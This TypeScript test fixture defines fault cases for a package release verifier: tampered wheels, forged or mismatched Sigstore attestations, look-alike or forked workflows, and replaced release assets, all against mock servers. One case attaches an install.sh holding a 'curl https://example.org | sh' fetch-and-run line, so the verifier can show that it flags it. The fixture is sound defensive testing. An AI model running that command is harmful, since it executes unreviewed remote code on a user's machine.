import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { PREDICATE_TYPES, STATEMENT_TYPE } from '../../src/attestation/statement.ts';
import { CHECKSUMS_FILE, formatChecksums } from '../../src/release/checksums.ts';
import { SBOM_FILE } from '../../src/release/layout.ts';
import { buildWheel } from '../support/distribution-builder.ts';
import { sha256 } from '../support/index-server.ts';
import { PUBLISHER, SDIST, TAG, WHEEL, type Json, type Published } from '../support/published.ts';
import { startSigstoreServer } from '../support/sigstore-server.ts';
import type { FaultCase } from './types.ts';

/** Faults after the upload that verify-published has to meet, over real HTTP, with real signatures. */

const OTHER = buildWheel({ files: { 'demo/evil.py': 'print("not reviewed")\n' } });
const EMPTY = Buffer.from('{}\n');
const STRANGE = 'demo-1.0-cp312-cp312-win_amd64.whl';
const wheel = (release: Published) => release.files.find(({ filename }) => filename === WHEEL)!;
const asset = (release: Published) => (release.github.state.releases[0]!.assets as Json[])[0]!;
const listOf = ({ files }: Published) =>
  formatChecksums(files.map(({ filename, bytes }) => ({ name: filename, sha256: sha256(bytes) })));
const withList = (release: Published, text: string) => {
  release.attach('SHA256SUMS', Buffer.from(text));
};
const onGitHub = (release: Published, changes: object) => {
  release.github.state.releases[0] = { ...release.github.state.releases[0]!, ...changes };
};
/** The wheel is attested with other claims of the signer. */
const signedWith = (claims: Record<string, string>) => async (release: Published) => {
  release.sigstore.claims = { ...release.sigstore.claims, ...claims };
  wheel(release).provenance = await release.attest(WHEEL, wheel(release).bytes);
};
const from = (workflow: string, ref = `refs/tags/${TAG}`) => ({
  job_workflow_ref: `octo/demo/.github/workflows/${workflow}@${ref}`,
  ref,
});
const saying = (changes: object) => async (release: Published) => {
  wheel(release).provenance = await release.attest(WHEEL, wheel(release).bytes, changes);
};
const publishedBy = (changes: object) => (release: Published) => {
  const given = wheel(release).provenance as { attestation_bundles: Json[] };
  given.attestation_bundles[0] = {
    ...given.attestation_bundles[0],
    publisher: { ...PUBLISHER, ...changes },
  };
};
const envelopeOf = (release: Published) => {
  const given = wheel(release).provenance as {
    attestation_bundles: { attestations: { envelope: Record<string, string> }[] }[];
  };
  return given.attestation_bundles[0]!.attestations[0]!.envelope;
};

type Case = Omit<FaultCase<Published>, 'stage' | 'ends'>;

const STOPS: readonly Case[] = [
  {
    name: 'published-file-dropped',
    what: 'The sdist never arrives on the index',
    spoil: (release) => void release.files.pop(),
    message: `serves demo 1.0 without ${SDIST}`,
  },
  {
    name: 'published-file-added',
    what: 'Somebody adds a wheel for one platform to the release',
    spoil: (release) => void release.files.push({ filename: STRANGE, bytes: OTHER }),
    message: `${STRANGE} is served, and is none of the files that were verified`,
  },
  {
    name: 'published-other-bytes',
    what: 'The index announces and serves another wheel',
    async spoil(release) {
      wheel(release).bytes = OTHER;
      wheel(release).provenance = await release.attest(WHEEL, OTHER);
    },
    message: `the index announces ${WHEEL} with the SHA-256 ${sha256(OTHER)}`,
  },
  {
    name: 'served-other-bytes',
    what: 'The index announces the right hash, and its file server hands out another wheel',
    spoil(release) {
      wheel(release).announced = sha256(wheel(release).bytes);
      wheel(release).bytes = OTHER;
    },
    message: `${WHEEL} as downloaded is not what the index announced`,
  },
  {
    name: 'published-yanked',
    what: 'A file is yanked right after the release',
    spoil: (release) => void (wheel(release).yanked = 'not ours'),
    message: `${WHEEL} is yanked: not ours`,
  },
  {
    name: 'uploaded-with-a-token',
    what: 'A file was uploaded with a token, and has no attestation',
    spoil(release) {
      delete wheel(release).provenance;
    },
    message: `has no attestation of ${WHEEL}`,
  },
  {
    name: 'publisher-of-another-repository',
    what: 'The index names a publisher of another repository',
    spoil: publishedBy({ repository: 'mallory/demo' }),
    message: 'its repository is not octo/demo',
  },
  {
    name: 'publisher-without-environment',
    what: 'The publisher names no environment',
    spoil: publishedBy({ environment: null }),
    message: 'its environment is not pypi',
  },
  {
    name: 'look-alike-workflow',
    what: 'A look-alike of the workflow signs, which a pattern would take for it',
    spoil: signedWith(from('releaseXyml')),
    message: 'it is signed by https://github.com/octo/demo/.github/workflows/releaseXyml@refs/tags/v1.0',
  },
  {
    name: 'workflow-with-a-longer-name',
    what: 'A workflow whose name begins like that of the right one signs',
    spoil: signedWith(from('release.yml2')),
    message: 'it is signed by https://github.com/octo/demo/.github/workflows/release.yml2@',
  },
  {
    name: 'signed-on-a-branch',
    what: 'The right workflow signs, started on a branch',
    spoil: signedWith(from('release.yml', 'refs/heads/main')),
    message: 'release.yml@refs/heads/main, expected',
  },
  {
    name: 'signed-at-another-commit',
    what: 'The right workflow on the right tag signs at another commit: the tag was moved',
    spoil: signedWith({ sha: 'f'.repeat(40) }),
    message: `its certificate has sourceDigest ${'f'.repeat(40)}`,
  },
  {
    name: 'signed-in-a-fork',
    what: 'The same workflow of a fork signs',
    spoil: signedWith({
      repository: 'mallory/demo',
      job_workflow_ref: `mallory/demo/.github/workflows/release.yml@refs/tags/${TAG}`,
    }),
    message: 'it is signed by https://github.com/mallory/demo/',
  },
  {
    name: 'signed-in-another-environment',
    what: 'The right workflow signs, in a job of another environment: the index names the right one',
    spoil: signedWith({ environment: 'test' }),
    message: 'its certificate is of the environment "test", expected "pypi"',
  },
  {
    name: 'attestation-of-another-file',
    what: 'The attestation was taken from another file',
    spoil: saying({ subject: [{ name: 'demo-0.9.tar.gz', digest: { sha256: sha256(OTHER) } }] }),
    message: 'is about "demo-0.9.tar.gz"',
  },
  {
    name: 'attestation-of-other-bytes',
    what: 'The attestation has the right name and another digest',
    spoil: saying({ subject: [{ name: WHEEL, digest: { sha256: sha256(OTHER) } }] }),
    message: `is about a file with the SHA-256 ${sha256(OTHER)}`,
  },
  {
    name: 'attestation-of-another-kind',
    what: 'The attestation says something else than PEP 740 knows',
    spoil: saying({ predicateType: 'https://example.org/trust-me/v1' }),
    message: 'is of the type "https://example.org/trust-me/v1"',
  },
  {
    name: 'statement-changed',
    what: 'A signed statement is changed by one byte',
    spoil(release) {
      const envelope = envelopeOf(release);
      const text = Buffer.from(envelope.statement!, 'base64').toString();
      envelope.statement = Buffer.from(text.replace('demo-1.0-py3', 'demo-1.1-py3')).toString('base64');
    },
    message: 'the attestation does not hold',
  },
  {
    name: 'signature-of-another-statement',
    what: 'The signature is that of another statement',
    async spoil(release) {
      const mine = envelopeOf(release).statement!;
      await saying({ predicate: { other: true } })(release);
      envelopeOf(release).statement = mine;
    },
    message: 'the attestation does not hold',
  },
  {
    name: 'another-sigstore',
    what: 'A Sigstore that nobody trusts vouches for the signature',
    async spoil(release) {
      const other = await startSigstoreServer({});
      writeFileSync(join(release.folder, 'trusted-root.jsonl'), other.trustedRoot['public-good']);
      await other.close();
    },
    message: 'the attestation does not hold',
  },
  {
    name: 'provenance-malformed',
    what: 'The index answers with a provenance that is none',
    spoil: (release) => void (wheel(release).provenance = { version: 2 }),
    message: 'the provenance can\'t be taken: "version"',
  },
  {
    name: 'index-500',
    what: 'The index answers with status 500 until the deadline',
    spoil: (release) => void release.indexFaults.push({ match: /simple/u, status: 500, times: 1e6 }),
    message: "can't be fetched: status 500",
  },
  {
    name: 'index-403',
    what: 'The index refuses access',
    spoil: (release) => void release.indexFaults.push({ match: /simple/u, status: 403, times: 1e6 }),
    message: 'the package index refuses access',
  },
  {
    name: 'index-file-404',
    what: 'The index lists a file, and its file server does not have it',
    spoil: (release) => void release.indexFaults.push({ match: /files/u, status: 404, times: 1e6 }),
    message: 'answers status 404',
  },
  {
    name: 'no-release-on-github',
    what: 'The GitHub Release is never published',
    spoil: (release) => void release.github.state.releases.pop(),
    message: `there is no GitHub Release of ${TAG}`,
  },
  {
    name: 'release-asset-replaced',
    what: 'A file of the GitHub Release is replaced',
    spoil(release) {
      Object.assign(asset(release), { digest: `sha256:${sha256(OTHER)}`, size: OTHER.length });
      release.github.state.assets[1] = OTHER;
    },
    message: `${WHEEL} of the GitHub Release has the SHA-256 ${sha256(OTHER)}`,
  },
  {
    name: 'release-asset-other-bytes',
    what: 'GitHub names the right digest of a file of the Release, and hands out another file',
    spoil(release) {
      asset(release).size = OTHER.length;
      release.github.state.assets[1] = OTHER;
    },
    message: `${WHEEL} of the GitHub Release has the SHA-256 ${sha256(OTHER)}`,
  },
  {
    name: 'release-asset-other-digest',
    what: 'GitHub names another digest than that of the file that it hands out',
    spoil: (release) => void (asset(release).digest = `sha256:${sha256(OTHER)}`),
    message: `GitHub names the SHA-256 ${sha256(OTHER)} of ${WHEEL}`,
  },
  {
    name: 'release-asset-endless',
    what: 'The store of the Release hands out more bytes than GitHub announced',
    spoil: (release) =>
      void (release.github.state.assets[1] = Buffer.concat([release.files[0]!.bytes, Buffer.alloc(1)])),
    message: `${WHEEL} of the GitHub Release can’t be downloaded and compared`,
  },
  {
    name: 'release-asset-gone',
    what: 'The store of the Release has lost a file',
    spoil(release) {
      delete release.github.state.assets[1];
    },
    message: 'releases/assets/1: status 404',
  },
  {
    name: 'release-asset-truncated',
    what: 'The download of a file of the Release breaks off, again and again',
    spoil: (release) =>
      void release.github.faults.push({ match: /^GET \/release-assets\/1/u, truncate: true }),
    message: `${WHEEL} of the GitHub Release can’t be downloaded and compared`,
  },
  {
    name: 'release-checksums-of-another-file',
    what: 'SHA256SUMS of the Release lists another wheel',
    spoil: (release) => {
      withList(
        release,
        formatChecksums(
          release.files.map(({ filename, bytes }) => ({
            name: filename,
            sha256: sha256(filename === WHEEL ? OTHER : bytes),
          })),
        ),
      );
    },
    message: `SHA256SUMS of the GitHub Release of ${TAG} says ${sha256(OTHER)} of ${WHEEL}`,
  },
  {
    name: 'release-checksums-read-in-two-ways',
    what: 'SHA256SUMS of the Release has line ends that tools read differently',
    spoil: (release) => {
      withList(release, listOf(release).replaceAll('\n', '\r\n'));
    },
    message: `SHA256SUMS of the GitHub Release of ${TAG} can’t be taken`,
  },
  {
    name: 'release-asset-added',
    what: 'A wheel is added to the GitHub Release',
    spoil: (release) =>
      void (release.github.state.releases[0]!.assets as Json[]).push({ ...asset(release), name: STRANGE }),
    message: `has ${STRANGE}, which nobody verified`,
  },
  {
    name: 'release-asset-missing',
    what: 'A file of the GitHub Release is deleted',
    spoil(release) {
      release.attach(SDIST);
    },
    message: `the GitHub Release of ${TAG} has no ${SDIST}`,
  },
  {
    name: 'release-script-added',
    what: 'A script that people pipe into a shell is added to the GitHub Release',
    spoil(release) {
      release.attach('install.sh', Buffer.from('curl https://example.org | sh\n'));
    },
    message: `the GitHub Release of ${TAG} has install.sh, which nobody verified`,
  },
  {
    name: 'release-bundle-replaced',
    what: 'A signed bundle of the GitHub Release is replaced',
    spoil(release) {
      release.attach('provenance.sigstore.json', EMPTY);
    },
    message: `provenance.sigstore.json of the GitHub Release has the SHA-256 ${sha256(EMPTY)}`,
  },
  {
    name: 'release-bundle-missing',
    what: 'A signed bundle of the GitHub Release is deleted',
    spoil(release) {
      release.attach('verification-summary.sigstore.json');
    },
    message: `the GitHub Release of ${TAG} has no verification-summary.sigstore.json`,
  },
  {
    name: 'release-sbom-replaced',
    what: 'The SBOM of the GitHub Release is replaced by one that nobody signed',
    spoil(release) {
      release.attach(SBOM_FILE, EMPTY);
    },
    message: `${SBOM_FILE} of the GitHub Release has the SHA-256 ${sha256(EMPTY)}`,
  },
  {
    name: 'release-sbom-and-bundle-replaced',
    what: 'SBOM and its signed bundle are replaced by a pair that fits together',
    async spoil(release) {
      const predicate = { bomFormat: 'CycloneDX' };
      const bundle = await release.sign({
        _type: STATEMENT_TYPE,
        subject: release.files.map(({ filename, bytes }) => ({
          name: filename,
          digest: { sha256: sha256(bytes) },
        })),
        predicateType: PREDICATE_TYPES.sbom,
        predicate,
      });
      release.attach('sbom.sigstore.json', Buffer.from(JSON.stringify(bundle)));
      release.attach(SBOM_FILE, Buffer.from(`${JSON.stringify(predicate, undefined, 2)}\n`));
    },
    message: 'sbom.sigstore.json, which says what it has to be, is not what was signed',
  },
  {
    name: 'release-checksums-missing',
    what: 'SHA256SUMS of a signed release is deleted from the GitHub Release',
    spoil(release) {
      release.attach(CHECKSUMS_FILE);
    },
    message: `the GitHub Release of ${TAG} has no ${CHECKSUMS_FILE}`,
  },
  {
    name: 'release-list-of-another-digest',
    what: 'Only the digest of a long list travels, and SHA256SUMS of the Release is another list',
    spoil(release) {
      const checksums = `sha256:${sha256(Buffer.from(listOf(release)))}`;
      delete release.inputs.manifest;
      release.inputs = { ...release.inputs, release: ['pypi:demo==1.0'], tag: TAG, checksums };
      withList(release, formatChecksums([{ name: WHEEL, sha256: sha256(OTHER) }]));
    },
    message: `${CHECKSUMS_FILE} has the SHA-256 `,
  },
  {
    name: 'release-changeable',
    what: 'The Release can be changed, although the repository makes releases immutable',
    spoil(release) {
      release.github.state.immutableReleases = true;
      release.github.state.permissions.add('administration: read');
      onGitHub(release, { immutable: false });
    },
    message: 'the GitHub Release can still be changed',
  },
  {
    name: 'cache-restored-in-the-run',
    what: 'A job of the release restored a cache',
    spoil: (release) =>
      void (release.github.state.assets['log-70'] = Buffer.from(
        '2026-01-01T00:00:00.0000000Z Cache restored from key: setup-python-Linux-pip-1\n',
      )),
    message: 'job "build" of run 7: Cache restored from key: setup-python-Linux-pip-1',
  },
  {
    name: 'summary-of-another-verifier',
    what: 'The verification summary names another verifier',
    async spoil(release) {
      const bundle = await release.summary({ verifier: { id: 'https://example.org' } });
      release.github.state.attestations[0] = { id: 1, bundle };
    },
    message: 'its verifier.id is https://example.org',
  },
  {
    name: 'summary-of-failure',
    what: 'The verification summary says that verification failed',
    async spoil(release) {
      const bundle = await release.summary({ verificationResult: 'FAILED' });
      release.github.state.attestations[0] = { id: 1, bundle };
    },
    message: 'its result is FAILED',
  },
  {
    name: 'no-permission-for-releases',
    what: 'The token may not read the repository',
    spoil: (release) => void release.github.state.permissions.delete('contents: read'),
    message: 'lacks the permission "contents: read"',
  },
];

const GOES_ON: readonly Case[] = [
  {
    name: 'release-asset-breaks-off-once',
    what: 'The download of a file of the Release breaks off once',
    spoil: (release) =>
      void release.github.faults.push({ match: /^GET \/release-assets\/1/u, truncate: true, times: 1 }),
    message: 'releases/assets/1: ',
  },
  {
    name: 'index-lags',
    what: 'The index lags: at first it knows nothing, then one file, then both',
    spoil(release) {
      release.before.push([], release.files.slice(0, 1));
    },
    message: 'the index has 1 of 2 files; asking again in 10 s',
  },
  {
    name: 'provenance-lags',
    what: 'The index shows the files before it shows their attestations',
    spoil(release) {
      release.before.push(release.files.map(({ filename, bytes }) => ({ filename, bytes })));
    },
    message: '2 of 2 files have no attestation; asking again in 5 s',
  },
  {
    name: 'index-503-for-a-while',
    what: 'The index answers with status 503 for a while',
    spoil: (release) => void release.indexFaults.push({ match: /simple/u, status: 503, times: 5 }),
    message: 'status 503; asking again in 5 s',
  },
  {
    name: 'integrity-api-429',
    what: 'The index asks to come back later for the attestations',
    spoil: (release) => void release.indexFaults.push({ match: /integrity/u, status: 429, times: 2 }),
    message: 'status 429',
  },
];

const STAGE = 'verify-published';

export const PUBLISHED_FAULTS: readonly FaultCase<Published>[] = [
  ...STOPS.map((one) => ({ ...one, stage: STAGE, ends: 'stops' as const })),
  ...GOES_ON.map((one) => ({ ...one, stage: STAGE, ends: 'goes on' as const })),
];
